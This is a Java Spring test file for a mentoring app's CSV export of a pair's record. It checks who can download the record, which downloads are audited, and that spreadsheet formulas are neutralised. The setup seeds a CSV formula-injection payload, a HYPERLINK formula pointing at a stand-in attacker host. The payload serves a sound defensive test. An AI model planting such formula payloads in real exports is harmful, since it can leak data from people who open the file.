package org.flipside.pairing.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.flipside.pairing.PairFixture.as;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.flipside.identity.Accounts;
import org.flipside.identity.Role;
import org.flipside.pairing.PairFixture;
import org.flipside.pairing.PairFixture.Scene;
import org.flipside.pairing.PairProfiles;
import org.flipside.pairing.Pairs;
import org.flipside.people.DirectoryWriter;
import org.flipside.program.EnrollmentFixture.Person;
import org.flipside.program.Programs;
import org.flipside.testing.WebTestBase;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * The pair's record as CSV: for its two people and its program's managers (a manager's download audited), nobody
 * else; the self-assessments appear once both people gave a phase; cells that would run as formulas are neutralised.
 */
class PairRecordWebTest extends WebTestBase {

    @Autowired
    Accounts accountDirectory;
    @Autowired
    DirectoryWriter directory;
    @Autowired
    Programs programs;
    @Autowired
    Pairs pairs;
    @Autowired
    JdbcClient jdbc;

    PairFixture fixture;
    Scene scene;
    String formulaSkill;

    @BeforeEach
    void aPairWhoseMenteeWantsASkillWithAFormulaForAName() {
        fixture = new PairFixture(jdbc, accountDirectory, directory, programs, pairs);
        scene = fixture.scene();
        String code = "formula-" + scene.pairId();
        formulaSkill = "=HYPERLINK(\"http://evil.example/" + scene.pairId() + "\")";
        jdbc.sql("insert into skill (code, category, name, shipped, created_at, created_by) "
                        + "values (:code, 'DIGITAL_TOOLS', :name, false, current_timestamp, 'test')")
                .param("code", code).param("name", formulaSkill).update();
        new PairProfiles(jdbc).skills(scene.menteeParticipant(), "WANTED", code);
        new PairProfiles(jdbc).skills(scene.mentorParticipant(), "WANTED", "storytelling");
    }

    @Test
    void theTwoPeopleAndTheManagerDownloadItAndOnlyTheManagersDownloadIsAudited() throws Exception {
        long before = auditCount(scene.manager().username(), "PAIR_RECORD_DOWNLOADED", String.valueOf(scene.pairId()));
        for (Person person : List.of(scene.mentee(), scene.mentor(), scene.manager())) {
            List<CSVRecord> rows = download("/pairs/" + scene.pairId() + "/record.csv", person);
            assertThat(rows.get(0).get(0)).isEqualTo("Pair record");
            assertThat(rows).anySatisfy(row -> assertThat(row.get(0)).isEqualTo("Self-assessments"));
        }
        mvc.perform(as(get("/api/v1/pairs/" + scene.pairId() + "/record"), scene.manager()))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", org.hamcrest.Matchers.startsWith("text/csv")))
                .andExpect(header().string("Content-Disposition",
                        org.hamcrest.Matchers.containsString("pair-" + scene.pairId() + "-record.csv")));
        assertThat(auditCount(scene.manager().username(), "PAIR_RECORD_DOWNLOADED", String.valueOf(scene.pairId())))
                .isEqualTo(before + 2);
        assertThat(auditCount(scene.mentee().username(), "PAIR_RECORD_DOWNLOADED", String.valueOf(scene.pairId())))
                .isZero();
        String overview = mvc.perform(as(get("/pairs/" + scene.pairId()), scene.mentee())).andReturn().getResponse()
                .getContentAsString();
        assertThat(overview).contains("/pairs/" + scene.pairId() + "/record.csv").contains("Download record");
    }

    @Test
    void nobodyElseGetsIt() throws Exception {
        for (Person outsider : List.of(fixture.person(Role.ADMIN), fixture.person(Role.EMPLOYEE),
                fixture.person(Role.PROGRAM_MANAGER))) {
            mvc.perform(as(get("/pairs/" + scene.pairId() + "/record.csv"), outsider))
                    .andExpect(status().isNotFound());
            mvc.perform(as(get("/api/v1/pairs/" + scene.pairId() + "/record"), outsider))
                    .andExpect(status().isNotFound());
        }
        mvc.perform(as(get("/api/v1/pairs/999999999/record"), scene.mentee())).andExpect(status().isNotFound());
    }

    @Test
    void selfAssessmentsAppearOnceBothGaveThemWithFormulasNeutralised() throws Exception {
        String code = "skill:formula-" + scene.pairId();
        assess(scene.mentee(), "pre", "{\"item\": \"" + code + "\", \"rating\": 2}");
        assertThat(download("/pairs/" + scene.pairId() + "/record.csv", scene.mentor()))
                .noneSatisfy(row -> assertThat(row.toList()).contains("'" + formulaSkill));

        assess(scene.mentor(), "pre", mentorRatings(3));
        assess(scene.mentee(), "post", "{\"item\": \"" + code + "\", \"rating\": 4}");
        List<CSVRecord> rows = download("/api/v1/pairs/" + scene.pairId() + "/record", scene.mentor());
        CSVRecord formula = rows.stream().filter(row -> row.toList().contains("'" + formulaSkill)).findFirst()
                .orElseThrow();
        // The mentor has not given the closing assessment yet: the record shows no closing ratings.
        assertThat(formula.toList()).containsExactly("Name " + scene.mentee().employeeNumber(), "Mentee",
                "'" + formulaSkill, "2", "", "");
        assertThat(rows).noneSatisfy(row -> assertThat(row.toList()).contains(formulaSkill));

        assess(scene.mentor(), "post", mentorRatings(4));
        List<CSVRecord> closed = download("/pairs/" + scene.pairId() + "/record.csv", scene.mentee());
        assertThat(closed.stream().filter(row -> row.toList().contains("'" + formulaSkill)).findFirst().orElseThrow()
                .toList()).endsWith("2", "4", "'+2");
        assertThat(closed).anySatisfy(row -> assertThat(row.toList())
                .containsExactly("Name " + scene.mentor().employeeNumber(), "Mentor", "Storytelling for leaders",
                        "3", "4", "'+1"));
    }

    private void assess(Person person, String phase, String ratings) throws Exception {
        mvc.perform(as(post("/api/v1/pairs/" + scene.pairId() + "/assessments/" + phase), person)
                        .contentType(MediaType.APPLICATION_JSON).content("{\"ratings\": [" + ratings + "]}"))
                .andExpect(status().isCreated());
    }

    private static String mentorRatings(int rating) {
        StringBuilder json = new StringBuilder("{\"item\": \"skill:storytelling\", \"rating\": " + rating + "}");
        for (String area : List.of("speaking-up", "explaining-to-executives", "understanding-strategy",
                "feedback-upward", "leading-a-conversation")) {
            json.append(", {\"item\": \"growth:").append(area).append("\", \"rating\": ").append(rating).append('}');
        }
        return json.toString();
    }

    private List<CSVRecord> download(String path, Person person) throws Exception {
        String csv = mvc.perform(as(get(path), person)).andExpect(status().isOk()).andReturn().getResponse()
                .getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
        return CSVFormat.DEFAULT.parse(new StringReader(csv)).getRecords();
    }
}
